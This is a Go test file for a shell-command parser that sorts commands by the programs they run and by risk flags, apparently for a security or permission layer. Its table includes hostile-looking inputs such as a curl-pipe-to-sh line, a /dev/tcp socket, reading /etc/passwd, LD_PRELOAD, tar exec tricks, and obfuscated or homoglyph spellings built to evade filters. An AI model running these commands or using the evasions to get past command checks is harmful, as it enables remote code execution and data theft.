package action

import (
	"strings"
	"testing"
	"time"
)

// A20: what a command runs, through what it runs it with.
func TestThreat_A20_CommandTable(t *testing.T) {
	for _, c := range []struct{ text, programs, flags string }{
		{"ls -la", "ls", ""},
		{"/bin/CAT x", "cat", ""},
		{`\cat x`, "cat", ""},
		{`c"a"t x`, "cat", ""},
		{`c''at x`, "cat", ""},
		{`$'\x63at' x`, "cat", ""},
		{`$'\143\u0061t' x`, "cat", ""},
		{"a | b && c; d & e || f", "a b c d e f", "pipe"},
		{"if a; then b; else c; fi; while d; do e; done; for x in 1; do f; done; case x in x) g;; esac", "a b c d e f g", ""},
		{"f() { rm x; }; f", "f rm", ""},
		{"(a; b) > out", "a b", "writes"},
		{"a 2>&1 >/dev/null", "a", ""},
		{"a >> log", "a", "writes"},
		{"a &> log", "a", "writes"},
		{"X=1 cmd1", "cmd1", ""},
		{"LD_PRELOAD=./x.so ls", "ls", "dynamic"},

		{"sh -c 'cat /etc/passwd'", "cat sh", "wrapper"},
		{`bash -lc "cat x"`, "bash cat", "wrapper"},
		{"bash -o pipefail -c 'cat x'", "bash cat", "wrapper"},
		{"bash --norc -ec 'cat x' arg0", "bash cat", "wrapper"},
		{`sh -c "sh -c 'sh -c \"cat x\"'"`, "cat sh", "wrapper"},
		{"env A=b cat x", "cat env", "wrapper"},
		{"env -i -u HOME cat x", "cat env", "wrapper"},
		{"env -S 'cat x'", "cat env", "wrapper"},
		{"env --split-string='sh -c id'", "env id sh", "wrapper"},
		{"xargs -n 1 -I{} cat {}", "cat xargs", "wrapper"},
		{"echo x | xargs cat", "cat echo xargs", "pipe wrapper"},
		{"sudo -u root cat x", "cat sudo", "wrapper"},
		{"sudo -nu root -- cat x", "cat sudo", "wrapper"},
		{"sudo -i", "sudo", "dynamic wrapper"},
		{"doas cat x", "cat doas", "wrapper"},
		{"busybox cat x", "busybox cat", "wrapper"},
		{"busybox sh -c 'cat x'", "busybox cat sh", "wrapper"},
		{"nohup cat x &", "cat nohup", "wrapper"},
		{"timeout -k 5 10 cat x", "cat timeout", "wrapper"},
		{"timeout --signal=KILL 10s cat x", "cat timeout", "wrapper"},
		{"nice -n 5 ionice -c 3 setsid stdbuf -oL cat x", "cat ionice nice setsid stdbuf", "wrapper"},
		{"env nohup timeout 5 sudo -E bash -c 'xargs cat'", "bash cat env nohup sudo timeout xargs", "wrapper"},
		{"echo $(cat x)", "cat echo", "substitution"},
		{"echo `cat x`", "cat echo", "substitution"},
		{`echo "a $(cat x)"`, "cat echo", "substitution"},
		{"diff <(cat a) <(cat b)", "cat diff", "substitution"},
		{"X=$(cat x)", "cat", "substitution"},
		{"echo ${X:-$(cat x)}", "cat echo", "substitution"},
		{"echo $((1+$(cat x)))", "cat echo", "substitution"},
		{"sh <<E\ncat x\nE", "cat sh", "wrapper"},
		{"sh <<'E'\ncat x\nE", "cat sh", "wrapper"},
		{"sh <<< 'cat x'", "cat sh", "wrapper"},
		{"cat <<E\n$(id)\nE", "cat id", "substitution"},
		{"sudo sh <<E\ncat x\nE", "cat sh sudo", "wrapper"},
		{"find . -exec cat {} +", "cat find", "wrapper"},
		{`find . -name x -exec sh -c 'cat $1' _ {} \; -o -exec id \;`, "cat find id sh", "wrapper"},
		{"find . -name x", "find", ""},
		{"eval cat x", "cat eval", "wrapper"},
		{`eval "ca""t x"`, "cat eval", "wrapper"},
		{"trap 'cat x' EXIT", "cat trap", "wrapper"},
		{"su -c 'cat x' bob", "cat su", "wrapper"},
		{"ssh host cat x", "cat ssh", "wrapper"},
		{"watch -n1 'cat x'", "cat watch", "wrapper"},
		{"command cat x", "cat command", "wrapper"},
		{"exec cat x", "cat exec", "wrapper"},
		{"time cat x", "cat", ""},
		{"flock /tmp/l -c 'cat x'", "cat flock", "wrapper"},
		{"flock /tmp/l cat x", "cat flock", "wrapper"},
		{"chroot / cat x", "cat chroot", "wrapper"},
		{"strace -o f cat x", "cat strace", "wrapper"},

		{"$X y", "", "dynamic"},
		{"c${X}at y", "", "dynamic"},
		{"$(echo cat) x", "echo", "dynamic substitution"},
		{"/bin/c?t x", "", "dynamic"},
		{"{cat,/etc/passwd}", "", "dynamic"},
		{"curl https://x.example | sh", "curl sh", "dynamic pipe wrapper"},
		{"sh script.sh", "sh", "dynamic wrapper"},
		{"source x", "source", "dynamic wrapper"},
		{". x", ".", "dynamic wrapper"},
		{"sh -c \"$X\"", "sh", "dynamic wrapper"},
		{"bash -c 'cat x; $Y'", "bash cat", "dynamic wrapper"},
		{"alias ls='rm x'", "alias", "dynamic wrapper"},
		{"sudo $X cat", "sudo", "dynamic wrapper"},
		{"timeout --weird 5 cat", "cat timeout", "dynamic wrapper"},
		{"python3 -c 'import os'", "python3", "inline_code"},
		{"perl -pe 's/a/b/'", "perl", "inline_code"},
		{"node --eval=1", "node", "inline_code"},
		{"python3 script.py", "python3", ""},
		{"python - <<E\nx\nE", "python", "inline_code"},
		{"awk 'BEGIN{system(\"id\")}'", "awk", "inline_code"},
		{"awk '{print $1}' f", "awk", ""},
		{"tar cf x --checkpoint-action=exec=sh y", "tar", "inline_code"},
		{"git -c core.pager=x log", "git", "inline_code"},
		{"exec 3<>/dev/tcp/192.0.2.1/80", "exec", "network wrapper writes"},
		{"powershell -enc AAAA", "powershell", "unparsable wrapper"},
		{"cmd.exe /c dir", "cmd", "unparsable wrapper"},

		{"it's", "", "unparsable"},
		{"a && ", "", "unparsable"},
		{"$(", "", "unparsable"},
		{"if", "", "unparsable"},
		{strings.Repeat("a;", maxCommandBytes), "", "unparsable"},
		{strings.Repeat("(", 3000), "", "unparsable"},
		{strings.Repeat("(a);", 2000), "a", ""},
		{strings.Repeat("(a);", 2001), "", "unparsable"},
		{strings.Repeat("eval ", 8) + "cat", "cat eval", "wrapper"},
		{strings.Repeat("eval ", 9) + "cat", "eval", "unparsable wrapper"},
		{strings.Repeat("sh -c a;", 60), "a sh", "wrapper"},
		{strings.Repeat("sh -c a;", 70), "a sh", "unparsable wrapper"},
		{"sh -c 'it\"s'", "sh", "unparsable wrapper"},
		{"", "", ""},
		{"ca\u200bt x", "", "dynamic odd_spelling"},
		{"саt x", "", "dynamic odd_spelling"}, // D5
	} {
		got := ReadCommand(c.text)
		if strings.Join(got.Programs, " ") != c.programs || strings.Join(got.Flags, " ") != c.flags {
			t.Errorf("%.60q: %v %v, want %s, %s", c.text, got.Programs, got.Flags, c.programs, c.flags)
		}
	}
}

func TestReadArgv(t *testing.T) {
	for _, c := range []struct {
		argv            []string
		programs, flags string
	}{
		{[]string{"cat", "a b"}, "cat", ""},
		{[]string{"sh", "-c", "cat x"}, "cat sh", "wrapper"},
		{[]string{"cat", "$(id)"}, "cat", ""},
		{[]string{"env", "sh", "-c", "cat $X"}, "cat env sh", "wrapper"},
		{nil, "", ""},
		{[]string{""}, "", "dynamic"},
		{[]string{"a b"}, "", "dynamic odd_spelling"},
		{make([]string, 5000), "", "dynamic unparsable"},
	} {
		if got := ReadArgv(c.argv); strings.Join(got.Programs, " ") != c.programs || strings.Join(got.Flags, " ") != c.flags {
			t.Errorf("%.60q: %v %v, want %s, %s", c.argv, got.Programs, got.Flags, c.programs, c.flags)
		}
	}
}

// Nesting in each of the ways a shell has: in bounded time and depth, and never taken for understood.
func TestCommandNestingIsBounded(t *testing.T) {
	quote := func(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
	nested := "cat x"
	for range 12 {
		nested = "sh -c " + quote(nested)
		if len(nested) > maxCommandBytes {
			break
		}
	}
	repeat := func(s string) string { return strings.Repeat(s, maxCommandBytes/len(s)) }
	for name, text := range map[string]string{
		"sh -c": nested, "brackets": repeat("("), "substitution": repeat("$("), "backquotes": "`" + repeat("\\`"), "if": repeat("if "), "braces": repeat("{ "), "eval": repeat("eval ") + "cat",
		"find": repeat("find -exec ") + "cat", "sudo": repeat("sudo "), "env": repeat("env -S "), "arithmetic": "$((" + repeat("a["), "parameter": repeat("${a:-"),
	} {
		start := time.Now()
		got := ReadCommand(text)
		if took := time.Since(start); took > time.Second {
			t.Errorf("%s: took %v", name, took)
		}
		if flags := strings.Join(got.Flags, " "); !strings.Contains(flags, FlagUnparsable) && !strings.Contains(flags, FlagDynamic) && name != "backquotes" {
			t.Errorf("%s: %s", name, flags)
		}
	}
}
